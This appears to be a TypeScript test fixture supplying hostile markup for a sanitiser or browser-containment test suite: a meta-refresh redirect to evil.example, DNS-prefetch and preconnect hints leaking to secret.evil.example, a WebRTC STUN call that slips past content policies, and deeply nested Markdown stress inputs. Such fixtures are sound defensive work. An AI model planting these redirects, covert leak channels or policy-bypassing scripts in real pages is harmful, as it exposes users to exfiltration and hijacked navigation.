import { readFileSync } from "node:fs";

/**
 * What an attacker writes where a page might take it for markup: each runs `alert`, or asks `evil.example` for something.
 * The same in the forms that Markdown has; whole files that a browser would run; names of files, without a slash.
 */
const data: Readonly<Record<"scripts" | "markdown" | "names", readonly string[]>> & { files: Record<string, string> } =
  JSON.parse(readFileSync(new URL("../data/hostile-markup.json", import.meta.url), "utf8"));
export const { scripts, files, names } = data;
export const markdown = [...data.markdown, `${"> ".repeat(3_000)}deep`, `${"[".repeat(2_000)}x${"](".repeat(2_000)}`];

/** Pages that lead elsewhere by themselves, and whose scripts call somebody past all policies. */
export function callingPages(port: number): Readonly<Record<"leading.html" | "calling.html", string>> {
  const call =
    `const c=new RTCPeerConnection({iceServers:[{urls:"stun:127.0.0.1:${port}"}]});c.createDataChannel("x");` +
    `c.createOffer().then((o)=>c.setLocalDescription(o));document.body.textContent="runs"`;
  const hints =
    "<link rel=dns-prefetch href=//secret.evil.example><link rel=preconnect href=https://secret.evil.example>";
  return {
    "leading.html": `<!doctype html><meta http-equiv=refresh content='0;url=https://evil.example/'>stands still`,
    "calling.html": `<!doctype html>${hints}<body>stands still<script>${call}</script>`,
  };
}
